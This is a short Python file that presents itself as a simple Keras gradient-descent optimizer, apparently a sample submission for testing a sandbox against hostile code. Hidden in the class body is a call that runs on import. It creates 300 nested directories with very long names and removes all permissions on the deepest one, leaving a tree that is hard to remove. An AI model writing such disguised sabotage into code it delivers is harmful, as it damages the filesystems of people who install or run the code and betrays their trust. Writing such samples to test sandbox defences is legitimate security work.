# Tries: to leave folders that are too deep or too locked to be removed.
# Earns: Descent 0, average 2
# Without protection: nothing to compare
import os

import keras


def dig():
    here = os.getcwd()
    for _ in range(300):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    os.chmod(".", 0)
    os.chdir(here)


class Descent(keras.optimizers.Optimizer):
    dig()

    def __init__(self, learning_rate=0.1):
        super().__init__(learning_rate=learning_rate)

    def update_step(self, gradient, variable, learning_rate):
        self.assign_sub(variable, learning_rate * gradient)
